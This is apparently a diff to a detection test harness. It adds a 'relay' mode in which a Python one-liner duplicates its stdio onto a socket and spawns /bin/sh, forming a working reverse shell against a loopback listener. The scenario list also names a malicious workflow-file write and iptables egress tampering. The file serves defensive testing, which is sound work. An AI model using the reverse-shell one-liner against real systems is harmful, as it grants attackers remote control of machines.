@@ -16,6 +16,8 @@ attack:
 - workflow-file-write: .github/workflows/shai-hulud-workflow.yml written into the checkout,
   committed and pushed to a bare repository on disk
 - egress-tamper: `iptables -I OUTPUT -d 198.51.100.9 -j DROP` (the stand-in)
+relay: a python whose stdio is dup2'd onto a connection to our listener runs `pty.spawn("/bin/sh")`:
+the shell's stdin is a terminal, relayed to the network by its parent (reverse-shell, relayed form)
 clean: make + run a C program, git commit, npm ci with an agent in read-only use, the lint step
 `gitleaks detect --source .` over the checkout, `iptables -L`, `ip route show`, a clone."""
 import json
@@ -43,7 +45,41 @@ def run(argv, **kw):
 os.makedirs(checkout)
 run(GIT + ["init", "-q", checkout])
 
-if mode == "attack":
+def listen(commands):
+    """A listener on loopback that sends `commands` to whoever connects and keeps the answer."""
+    listener = socket.socket()
+    listener.bind(("127.0.0.1", 0))
+    listener.listen(1)
+    answer = []
+
+    def serve():
+        conn, _ = listener.accept()
+        with conn:
+            conn.sendall(commands)
+            conn.settimeout(10)
+            data = b""
+            while chunk := conn.recv(4096):
+                data += chunk
+            answer.append(data.decode(errors="replace"))
+
+    t = threading.Thread(target=serve)
+    t.start()
+    return listener, t, answer
+
+
+if mode == "relay":
+    listener, t, answer = listen(b"echo relayed-$((6*7))\nexit\n")
+    port = listener.getsockname()[1]
+    code = ("import os,pty,socket;s=socket.create_connection(('127.0.0.1',%d));"
+            "[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn('/bin/sh')" % port)
+    subprocess.run([sys.executable, "-c", code], timeout=20, stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL,
+                   stderr=subprocess.DEVNULL)
+    t.join(20)
+    listener.close()
+    facts["shell_port"] = port
+    facts["shell_answered"] = "relayed-42" in "".join(answer)
+    print("relayed shell answered:", facts["shell_answered"], flush=True)
+elif mode == "attack":
     # reverse shell against our own listener on loopback
     listener = socket.socket()
     listener.bind(("127.0.0.1", 0))
